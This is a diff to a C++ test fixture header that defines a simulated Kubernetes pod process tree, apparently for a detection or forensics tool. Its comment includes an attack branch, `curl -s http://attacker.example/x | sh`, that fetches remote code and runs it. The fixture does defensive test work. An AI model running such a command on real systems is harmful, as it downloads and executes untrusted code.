@@ -234,3 +234,30 @@ inline const std::string kIncidentUntil = "2026-04-22T09:05:00Z";
 FixtureJournal incident_fixture();
 
 }  // namespace fixture
+
+namespace fixture {
+
+// ---------------------------------------------------------------- a pod with a liveness loop
+
+inline const std::string kLivenessPodUid = "5d1c2b3a-4f5e-4d6c-8b7a-9e8f7a6b5c4d";
+inline const std::string kLivenessPodName = "probe-demo-7b8c9-k4m2z";
+inline const std::string kLivenessNamespace = "payments";
+inline const std::string kLivenessContainer = "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90";
+inline constexpr uint32_t kLivenessLoopPid = 30100;
+inline constexpr uint32_t kLivenessOddPid = 30115;    // the probe that exits 1
+inline constexpr uint32_t kLivenessBatchPid = 30500;  // nested repeats below it
+inline constexpr uint32_t kLivenessCurlPid = 30602;   // the attack's connect
+
+// containerd-shim (30000, outside the pod)
+//   -> sh /app/loop.sh (30100, the container's init): every 10 s from
+//      09:00:00.020 a probe `sh -c "test -f /tmp/healthy"` (exit 0; the 8th,
+//      30115, exits 1) and a `sleep 10`, 20 of each, alternating
+//   -> sh /app/batch.sh (30500) -> 4 x sh -c "gzip -9 /var/log/app/*.log"
+//      -> 3 x gzip -9 each (nested repeats)
+//   -> sh -c "curl -s http://attacker.example/x | sh" (30600)
+//      -> sh (30601) -> curl (30602, connects to 203.0.113.9:443)
+// containerd-shim -> sh (30700, a `kubectl exec` session, a second root in
+// the pod) -> ls / (30701). A loss of 3 events at 09:02:00-09:02:01.
+FixtureJournal liveness_fixture();
+
+}  // namespace fixture
